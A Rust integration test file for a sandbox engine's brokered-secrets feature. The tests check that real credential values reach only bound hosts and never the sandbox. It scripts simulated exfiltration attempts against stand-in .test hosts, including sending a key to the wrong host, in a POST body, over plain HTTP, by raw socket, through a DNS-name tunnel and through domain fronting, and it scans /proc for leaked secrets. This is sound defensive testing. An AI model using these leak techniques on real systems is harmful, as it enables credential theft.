//! Brokered secrets against the test internet: the sandbox holds a stand-in, the HTTPS upstream
//! (the test CA, given to the engine with `--egress-ca`) receives the real value, and the value
//! never reaches anything the sandbox can read.

use serde_json::{Value, json};

use crate::common::*;
use crate::require_sandboxes;
use crate::testnet::TestNet;

pub const VALUE: &str = "sk-live-0123456789-REAL-VALUE";

pub async fn engine_for(net: &TestNet) -> TestEngine {
    let (dns, allow, ca) = (net.dns, format!("{}/32", net.net_ip), net.ca_pem());
    TestEngine::start_with(move |c| {
        c.network.dns_upstream = vec![dns];
        c.network.egress_allow = vec![allow];
        c.network.egress_ca = vec![ca];
    })
    .await
}

/// Runs a Python script in the sandbox; returns its stdout (it must succeed).
pub async fn py_out(client: &McpClient, id: &str, code: &str) -> String {
    sh(client, id, &format!("python3 - <<'EOF'\n{code}\nEOF")).await
}

/// Sets a secret through the engine API (what `sandbox-mcp secrets set` does locally).
pub async fn set_secret(engine: &TestEngine, name: &str, body: Value) -> reqwest::Response {
    engine
        .http()
        .put(format!("{}/v1/secrets/{name}", engine.url))
        .bearer_auth(KEY)
        .json(&body)
        .send()
        .await
        .unwrap()
}

/// The issue's "done when": a bound secret reaches its host, in place of the stand-in the
/// sandbox holds, and nothing in the sandbox can read the value.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let engine = engine_for(&net).await;
    let r = set_secret(
        &engine,
        "example",
        json!({"hosts": ["api.example.test"], "value": VALUE, "headers": ["Authorization", "X-Key"]}),
    )
    .await;
    assert!(r.status().is_success(), "{}", r.text().await.unwrap());
    let client = engine.mcp().await;
    let listed = ok(&client, "secret_list", json!({})).await;
    assert_eq!(listed["secrets"][0]["name"], "example");
    assert_eq!(
        listed["secrets"][0]["headers"],
        json!(["Authorization", "X-Key"])
    );
    assert!(!listed.to_string().contains(VALUE));
    let sandbox = ok(
        &client,
        "sandbox_create",
        json!({"secrets": {"API_KEY": "example"}}),
    )
    .await;
    let id = sandbox["id"].as_str().unwrap().to_string();
    assert_eq!(
        sandbox["secrets"],
        json!([{"env": "API_KEY", "secret": "example"}])
    );
    let standin = sh(&client, &id, "printf %s \"$API_KEY\"").await;
    assert!(standin.starts_with("sbxsecret_"), "{standin}");
    // Interpreters started by run_code see it too.
    let cell = ok(
        &client,
        "sandbox_run_code",
        json!({"sandbox_id": id, "language": "python", "code": "import os; print(os.environ['API_KEY'])"}),
    )
    .await;
    assert_eq!(cell["stdout"], format!("{standin}\n"), "{cell}");

    // curl, trusting the engine's CA through the system bundle.
    let out = sh(
        &client,
        &id,
        "curl -sS -H \"Authorization: Bearer $API_KEY\" https://api.example.test/record",
    )
    .await;
    assert_eq!(out, "recorded\n");
    let seen = net.recorded();
    assert_eq!(
        seen.last().unwrap()["headers"]["authorization"],
        format!("Bearer {VALUE}"),
        "{seen:?}"
    );
    // Python (urllib and the environment's bundle), Node's fetch, requests: all trust the CA.
    for client_command in [
        "python3 -c 'import os,urllib.request as u; r=u.Request(\"https://api.example.test/record\", headers={\"X-Key\": os.environ[\"API_KEY\"]}); print(u.urlopen(r).read().decode().strip())'",
        "node -e 'fetch(\"https://api.example.test/record\",{headers:{\"x-key\":process.env.API_KEY}}).then(r=>r.text()).then(t=>process.stdout.write(t))'",
        "python3 -c 'import os,requests; print(requests.get(\"https://api.example.test/record\", headers={\"X-Key\": os.environ[\"API_KEY\"]}).text.strip())'",
    ] {
        assert_eq!(
            sh(&client, &id, client_command).await,
            "recorded\n",
            "{client_command}"
        );
        assert_eq!(net.recorded().last().unwrap()["headers"]["x-key"], VALUE);
    }
    // git over https trusts it too (the answer is no repository, but TLS and the header
    // went through).
    let git = exec(
        &client,
        &id,
        "git -c http.extraHeader=\"Authorization: Bearer $API_KEY\" ls-remote https://api.example.test/record 2>&1",
    )
    .await;
    let said = git["stdout"].as_str().unwrap();
    assert!(!said.contains("certificate"), "{git}");
    assert!(
        net.recorded().iter().any(
            |r| r["path"].as_str().unwrap_or("").contains("git-upload-pack")
                && r["headers"]["authorization"] == format!("Bearer {VALUE}")
        ),
        "{git}"
    );

    // A second secret, for other.test, bound later: TLS to other.test is decrypted from now on
    // (no restart), and the first secret's stand-in sent there is a leak attempt.
    let r = set_secret(
        &engine,
        "other",
        json!({"hosts": ["other.test"], "value": "other-value", "format": "Token {value}"}),
    )
    .await;
    assert!(r.status().is_success());
    ok(
        &client,
        "sandbox_attach_secret",
        json!({"sandbox_id": id, "env": "OTHER_KEY", "secret": "other"}),
    )
    .await;
    let out = sh(
        &client,
        &id,
        "curl -sS -H \"Authorization: $OTHER_KEY\" https://other.test/record",
    )
    .await;
    assert_eq!(out, "recorded\n");
    assert_eq!(
        net.recorded().last().unwrap()["headers"]["authorization"],
        "Token other-value"
    );
    // The first secret's stand-in to other.test (decrypted for the second): a leak attempt. In
    // a request body to the right host: refused too. Over plain HTTP, to any host: refused with
    // advice to use https.
    for (command, says) in [
        (
            "curl -sS -H \"X-Key: $API_KEY\" https://other.test/record",
            "leak attempt",
        ),
        (
            "curl -sS -X POST --data \"key=$API_KEY\" https://api.example.test/record",
            "request body",
        ),
        (
            "curl -sS -H \"X-Key: $API_KEY\" http://pypi.test/record",
            "https",
        ),
    ] {
        let refused = exec(&client, &id, command).await;
        assert!(
            refused["stdout"].as_str().unwrap().contains(says),
            "{command}: {refused}"
        );
    }
    // In any other clear text, even after a harmless start (here the TCP echo): the connection
    // is cut before the stand-in goes out, so it never comes back.
    let echo = py_out(
        &client,
        &id,
        r#"
import os, socket
s = socket.create_connection(("pypi.test", 7), timeout=5)
s.sendall(b"hello")
first = s.recv(5)
s.sendall(b"then " + os.environ["API_KEY"].encode())
try:
    rest = s.recv(100)
except OSError as e:
    rest = b"reset"
print(first.decode(), repr(rest))
"#,
    )
    .await;
    assert!(
        echo.starts_with("hello ") && !echo.contains("sbxsecret_"),
        "{echo}"
    );
    // In a DNS name (a tunnel for it): refused, never forwarded.
    let dns = exec(
        &client,
        &id,
        "python3 -c 'import os,socket; socket.gethostbyname(os.environ[\"API_KEY\"] + \".tunnel.test\")'",
    )
    .await;
    assert_ne!(dns["exit_code"], 0, "{dns}");
    assert!(
        net.dns_queries().iter().all(|q| !q.contains("sbxsecret")),
        "{:?}",
        net.dns_queries()
    );
    let seen = net.recorded();
    assert!(
        seen.iter().all(|r| !r.to_string().contains("sbxsecret_")),
        "a stand-in reached a server: {seen:?}"
    );
    // TLS to a host no bound secret names is never decrypted: a stand-in sent there arrives as
    // it is — worthless, since it is not the value.
    let pem = std::fs::read_to_string(net.ca_pem()).unwrap();
    ok(
        &client,
        "sandbox_files_write",
        json!({"sandbox_id": id, "path": "/root/ca.pem", "content": pem}),
    )
    .await;
    sh(
        &client,
        &id,
        "curl -sS --cacert /root/ca.pem -H \"X-Key: $API_KEY\" https://pypi.test/record",
    )
    .await;
    let last = net.recorded().last().unwrap().clone();
    assert!(
        last["headers"]["x-key"]
            .as_str()
            .unwrap()
            .starts_with("sbxsecret_"),
        "{last}"
    );

    // The log says which secret went where, and names the leaks; never the value.
    let log = ok(
        &client,
        "sandbox_network_log",
        json!({"sandbox_id": id, "limit": 200}),
    )
    .await;
    let text = log.to_string();
    assert!(text.contains("secret example applied (API_KEY)"), "{log:#}");
    assert!(text.contains("leak attempt"), "{log:#}");
    assert!(text.contains("clear text; it was cut"), "{log:#}");
    assert!(!text.contains(VALUE));

    // Nothing in the sandbox holds the value: its writable files (the rest is the host's
    // read-only /usr), every process's environment and command line. The script names the
    // value in two halves, so that its own command line does not.
    let (a, b) = VALUE.split_at(VALUE.len() / 2);
    let scan = format!(
        r#"
import os
value = ("{a}" + "{b}").encode()
hits = []
for top in ["/root", "/tmp", "/etc", "/var", "/run", "/home", "/dev/shm"]:
    for d, _, files in os.walk(top):
        for f in files:
            try:
                with open(os.path.join(d, f), "rb") as fh:
                    if value in fh.read(): hits.append(os.path.join(d, f))
            except OSError: pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{{pid}}/{{what}}", "rb") as fh:
                if value in fh.read(): hits.append(f"/proc/{{pid}}/{{what}}")
        except OSError: pass
print(hits)
"#
    );
    let grep = ok(
        &client,
        "sandbox_exec",
        json!({"sandbox_id": id, "command": format!("python3 - <<'EOF'\n{scan}\nEOF")}),
    )
    .await;
    assert_eq!(grep["stdout"], "[]\n", "{grep}");
    // Nor the engine's database in clear.
    let db = std::fs::read(engine.data_dir().join("state.db")).unwrap();
    assert!(!db.windows(VALUE.len()).any(|w| w == VALUE.as_bytes()));

    // Rotation: the next request gets the new value; detach: the stand-in stops working.
    let rotated = "sk-live-ROTATED";
    set_secret(
        &engine,
        "example",
        json!({"hosts": ["api.example.test"], "value": rotated, "headers": ["X-Key"]}),
    )
    .await;
    sh(
        &client,
        &id,
        "curl -sS -H \"X-Key: $API_KEY\" https://api.example.test/record",
    )
    .await;
    assert_eq!(net.recorded().last().unwrap()["headers"]["x-key"], rotated);
    ok(
        &client,
        "sandbox_detach_secret",
        json!({"sandbox_id": id, "env": "API_KEY"}),
    )
    .await;
    // New commands no longer see it, and its stand-in no longer opens the value: with no bound
    // secret for api.example.test, that host is not even decrypted any more.
    let after = sh(
        &client,
        &id,
        &format!(
            "printf '%s ' \"${{API_KEY:-unset}}\"; curl -sS --cacert /root/ca.pem -H 'X-Key: {standin}' https://api.example.test/record"
        ),
    )
    .await;
    assert_eq!(after, "unset recorded\n");
    assert_eq!(
        net.recorded().last().unwrap()["headers"]["x-key"],
        json!(standin)
    );
}

/// Bad secrets and bad bindings get errors that say what to give; another tenant's secret
/// cannot be bound (it answers like one that does not exist).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_secrets_and_other_tenants_secrets_are_refused() {
    require_sandboxes!();
    let engine = TestEngine::start().await;
    let big = "x".repeat(1 << 20);
    for (body, says) in [
        (json!({"hosts": [], "value": "v"}), "hosts"),
        // The spec's patterns, checked as the body is read: the message names the field.
        (
            json!({"hosts": ["not a host"], "value": "v"}),
            "hosts[0]: doesn't match pattern",
        ),
        (json!({"hosts": ["a.test"], "value": ""}), "value"),
        (json!({"hosts": ["a.test"], "value": big}), "value"),
        (
            json!({"hosts": ["a.test"], "value": "a\nb"}),
            "value: doesn't match pattern",
        ),
        (
            json!({"hosts": ["a.test"], "value": "v", "format": "Bearer"}),
            "format: doesn't match pattern",
        ),
        (
            json!({"hosts": ["a.test"], "value": "v", "headers": ["Origin"]}),
            "cannot carry a secret",
        ),
        (
            json!({"hosts": ["a.test"], "value": "v", "headers": ["Authorization", "Referer"]}),
            "cannot carry a secret",
        ),
        (
            json!({"hosts": ["a.test"], "value": "v", "headers": []}),
            "headers",
        ),
    ] {
        let r = set_secret(&engine, "s1", body.clone()).await;
        let status = r.status();
        let text = r.text().await.unwrap();
        assert_eq!(status, 400, "{body}: {text}");
        assert!(text.contains(says), "{body}: {text}");
    }
    let r = set_secret(
        &engine,
        "bad name",
        json!({"hosts": ["a.test"], "value": "v"}),
    )
    .await;
    assert_eq!(r.status(), 400);
    // A secret of tenant t2.
    let r = engine
        .http()
        .put(format!("{}/v1/secrets/theirs", engine.url))
        .bearer_auth(KEY)
        .header("x-sandbox-tenant", "t2")
        .json(&json!({"hosts": ["a.test"], "value": "t2-value"}))
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    let r = set_secret(&engine, "mine", json!({"hosts": ["a.test"], "value": "v"})).await;
    assert!(r.status().is_success());
    let client = engine.mcp().await;
    // The untenanted caller sees only its own, and cannot bind t2's.
    let listed = ok(&client, "secret_list", json!({})).await;
    assert_eq!(listed["secrets"].as_array().unwrap().len(), 1, "{listed}");
    let e = err(
        &client,
        "sandbox_create",
        json!({"secrets": {"K": "theirs"}}),
    )
    .await;
    assert!(e.contains("theirs does not exist"), "{e}");
    let id = create(&client).await;
    for (args, says) in [
        (
            json!({"sandbox_id": id, "env": "K", "secret": "theirs"}),
            "does not exist",
        ),
        (
            json!({"sandbox_id": id, "env": "1BAD", "secret": "mine"}),
            "env",
        ),
    ] {
        let e = err(&client, "sandbox_attach_secret", args.clone()).await;
        assert!(e.contains(says), "{args}: {e}");
    }
    let e = err(
        &client,
        "sandbox_detach_secret",
        json!({"sandbox_id": id, "env": "NOT_BOUND"}),
    )
    .await;
    assert!(e.contains("no secret is bound to NOT_BOUND"), "{e}");
    // At most 32 bindings per sandbox; the 33rd says to detach one.
    for i in 0..32 {
        ok(
            &client,
            "sandbox_attach_secret",
            json!({"sandbox_id": id, "env": format!("K{i}"), "secret": "mine"}),
        )
        .await;
    }
    let e = err(
        &client,
        "sandbox_attach_secret",
        json!({"sandbox_id": id, "env": "K32", "secret": "mine"}),
    )
    .await;
    assert!(e.contains("32 secrets") && e.contains("detach one"), "{e}");
    // The listing of t2 does not show the untenanted secret, nor any value.
    let r: Value = engine
        .http()
        .get(format!("{}/v1/secrets", engine.url))
        .bearer_auth(KEY)
        .header("x-sandbox-tenant", "t2")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(r["secrets"].as_array().unwrap().len(), 1, "{r}");
    assert_eq!(r["secrets"][0]["name"], "theirs");
    assert!(!r.to_string().contains("t2-value"));
}

/// Stores the secret `example` (for api.example.test) and creates a sandbox that binds it to
/// `API_KEY`: the engine's MCP client and the sandbox's id.
async fn example_bound(engine: &TestEngine) -> (McpClient, String) {
    set_secret(
        engine,
        "example",
        json!({"hosts": ["api.example.test"], "value": VALUE, "headers": ["Authorization", "X-Key"]}),
    )
    .await;
    let client = engine.mcp().await;
    let sandbox = ok(
        &client,
        "sandbox_create",
        json!({"secrets": {"API_KEY": "example"}}),
    )
    .await;
    let id = sandbox["id"].as_str().unwrap().to_string();
    (client, id)
}

/// Bindings survive an engine restart; a deleted secret makes the next request fail with the
/// reason in the log; an upstream whose certificate does not verify is refused, and logged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bindings_survive_a_restart_and_failures_are_explained() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let engine = engine_for(&net).await;
    let (client, id) = example_bound(&engine).await;
    drop(client);
    let dir = engine.stop().await;
    let config = {
        let mut c = TestEngine::config_for(dir.path());
        c.network.dns_upstream = vec![net.dns];
        c.network.egress_allow = vec![format!("{}/32", net.net_ip)];
        c.network.egress_ca = vec![net.ca_pem()];
        c
    };
    let engine = TestEngine::start_on(dir, config).await;
    let client = engine.mcp().await;
    let curl = "curl -sS -H \"Authorization: Bearer $API_KEY\" https://api.example.test/record";
    assert_eq!(sh(&client, &id, curl).await, "recorded\n");
    assert_eq!(
        net.recorded().last().unwrap()["headers"]["authorization"],
        format!("Bearer {VALUE}")
    );
    // Deleted: the request fails, and says why.
    let r = engine
        .http()
        .delete(format!("{}/v1/secrets/example", engine.url))
        .bearer_auth(KEY)
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success());
    let out = exec(&client, &id, curl).await;
    assert!(
        out["stdout"].as_str().unwrap().contains("no longer exists"),
        "{out}"
    );
    let log = ok(&client, "sandbox_network_log", json!({"sandbox_id": id})).await;
    assert!(log.to_string().contains("no longer exists"), "{log:#}");

    // An engine that does not trust the test CA: the upstream's certificate does not verify,
    // so the sandbox's connection fails, and the log says why.
    let strict = TestEngine::start_with({
        let (dns, allow) = (net.dns, format!("{}/32", net.net_ip));
        move |c| {
            c.network.dns_upstream = vec![dns];
            c.network.egress_allow = vec![allow];
        }
    })
    .await;
    let (client, id) = example_bound(&strict).await;
    let id = id.as_str();
    let out = exec(&client, id, curl).await;
    assert_ne!(out["exit_code"], 0, "{out}");
    let log = ok(
        &client,
        "sandbox_network_log",
        json!({"sandbox_id": id, "verdict": "failed"}),
    )
    .await;
    assert!(
        log.to_string().contains("certificate"),
        "the log names the certificate problem: {log:#}"
    );
}

/// `sandbox-mcp secrets`: the value comes from stdin and never comes back out.
#[test]
fn secrets_cli_reads_stdin_and_never_prints_the_value() {
    use std::io::Write;
    let dir = TempData::new();
    let run = |args: &[&str], stdin: &str| {
        let mut child = std::process::Command::new(BIN)
            .arg("secrets")
            .args(args)
            .env("SANDBOX_MCP_DATA_DIR", dir.data())
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // A refused command may exit before reading stdin: a broken pipe here is fine.
        let _ = child.stdin.take().unwrap().write_all(stdin.as_bytes());
        let out = child.wait_with_output().unwrap();
        (
            out.status.success(),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    };
    let (ok, said) = run(
        &[
            "set",
            "gh",
            "--host",
            "api.github.test",
            "--header",
            "Authorization",
            "--format",
            "Bearer {value}",
        ],
        &format!("{VALUE}\n"),
    );
    assert!(ok, "{said}");
    assert!(!said.contains(VALUE), "{said}");
    let (ok, listed) = run(&["list"], "");
    assert!(
        ok && listed.contains("gh") && listed.contains("api.github.test"),
        "{listed}"
    );
    assert!(!listed.contains(VALUE));
    // No hosts, or an empty value: refused with what to do.
    let (ok, said) = run(&["set", "gh2"], "v");
    assert!(!ok && said.contains("--host"), "{said}");
    let (ok, said) = run(&["set", "gh2", "--host", "a.test"], "\n");
    assert!(!ok && said.contains("empty"), "{said}");
    let (ok, said) = run(&["rm", "gh"], "");
    assert!(ok, "{said}");
    let (ok, said) = run(&["rm", "gh"], "");
    assert!(!ok && said.contains("no secret named gh"), "{said}");
    // The key file is the operator's alone.
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(dir.data().join("secrets.key"))
            .unwrap()
            .permissions(),
    );
    assert_eq!(mode & 0o777, 0o600);
}

/// An HTTPS server that speaks only HTTP/2, in the test internet's namespace on port 8443 with
/// the test CA's certificate; it records each request's protocol version and headers.
async fn h2_upstream(net: &TestNet) -> std::sync::Arc<std::sync::Mutex<Vec<Value>>> {
    use rustls::pki_types::pem::PemObject;
    let ns = std::fs::File::open(format!("/run/netns/{}", net.ns)).unwrap();
    let listener = std::thread::spawn(move || {
        nix::sched::setns(&ns, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
        std::net::TcpListener::bind("0.0.0.0:8443").unwrap()
    })
    .join()
    .unwrap();
    listener.set_nonblocking(true).unwrap();
    let listener = tokio::net::TcpListener::from_std(listener).unwrap();
    let dir = net.dir.path();
    let certs = rustls::pki_types::CertificateDer::pem_file_iter(dir.join("leaf.pem"))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let key = rustls::pki_types::PrivateKeyDer::from_pem_file(dir.join("leaf.key")).unwrap();
    let mut config = rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(certs, key)
    .unwrap();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                return;
            };
            let (acceptor, record) = (acceptor.clone(), record.clone());
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let service = hyper::service::service_fn(
                    move |req: hyper::Request<hyper::body::Incoming>| {
                        let headers: serde_json::Map<String, Value> = req
                            .headers()
                            .iter()
                            .map(|(k, v)| (k.to_string(), json!(v.to_str().unwrap_or(""))))
                            .collect();
                        record.lock().unwrap().push(json!({
                            "version": format!("{:?}", req.version()),
                            "authority": req.uri().authority().map(|a| a.to_string()),
                            "headers": headers,
                        }));
                        async {
                            Ok::<_, std::convert::Infallible>(hyper::Response::new(
                                axum::body::Body::from("recorded over h2\n"),
                            ))
                        }
                    },
                );
                let _ =
                    hyper::server::conn::http2::Builder::new(hyper_util::rt::TokioExecutor::new())
                        .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                        .await;
            });
        }
    });
    seen
}

/// HTTP/2 on both sides: a client that speaks h2 (curl --http2) to an upstream that speaks
/// only h2 (gRPC-style), with the value swapped in on the way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_upstreams_get_the_value_too() {
    require_sandboxes!();
    let net = crate::require_testnet!();
    let seen = h2_upstream(&net).await;
    let engine = engine_for(&net).await;
    let (client, id) = example_bound(&engine).await;
    let id = id.as_str();
    for flag in ["--http2", "--http1.1"] {
        let out = sh(
            &client,
            id,
            &format!(
                "curl -sS {flag} -w ' %{{http_version}}' -H \"Authorization: Bearer $API_KEY\" https://api.example.test:8443/rpc"
            ),
        )
        .await;
        let expected = if flag == "--http2" { "2" } else { "1.1" };
        assert_eq!(out, format!("recorded over h2\n {expected}"), "{flag}");
        let last = seen.lock().unwrap().last().cloned().unwrap();
        assert_eq!(last["version"], "HTTP/2.0", "{last}");
        assert_eq!(
            last["headers"]["authorization"],
            format!("Bearer {VALUE}"),
            "{last}"
        );
        assert_eq!(last["authority"], "api.example.test:8443", "{last}");
    }
    // A request naming another host than its TLS connection's (domain fronting): refused.
    let fronted = exec(
        &client,
        id,
        "curl -sS -H 'Host: other.test' -H \"Authorization: Bearer $API_KEY\" https://api.example.test:8443/rpc",
    )
    .await;
    assert!(
        fronted["stdout"]
            .as_str()
            .unwrap()
            .contains("domain fronting"),
        "{fronted}"
    );
    assert_eq!(
        seen.lock().unwrap().len(),
        2,
        "the fronted request went nowhere"
    );
}

/// `--egress-ca` (and `SANDBOX_MCP_EGRESS_CA`) on both commands: a file with no certificate
/// stops the engine from starting, saying which file and why.
#[test]
fn egress_ca_is_checked_on_both_commands() {
    require_sandboxes!();
    let dir = TempData::new();
    let bad = dir.dir.path().join("not-a-ca.pem");
    std::fs::write(&bad, "not a certificate\n").unwrap();
    let bad = bad.to_str().unwrap();
    let engine = std::process::Command::new("timeout")
        .args(["20", BIN, "engine", "--listen", "127.0.0.1:0"])
        .env("SANDBOX_MCP_DATA_DIR", dir.data())
        .env("SANDBOX_MCP_ENGINE_KEYS", KEY)
        .env("SANDBOX_MCP_EGRESS_CA", bad)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&engine.stderr);
    assert!(!engine.status.success());
    assert!(
        said.contains(&format!("--egress-ca {bad}: no PEM certificate in it")),
        "{said}"
    );
    let embedded = std::process::Command::new("timeout")
        .args(["20", BIN, "--egress-ca", bad])
        .env_remove("SANDBOX_MCP_URL")
        .env("SANDBOX_MCP_DATA_DIR", dir.data())
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&embedded.stderr);
    assert!(said.contains("no PEM certificate in it"), "{said}");
}
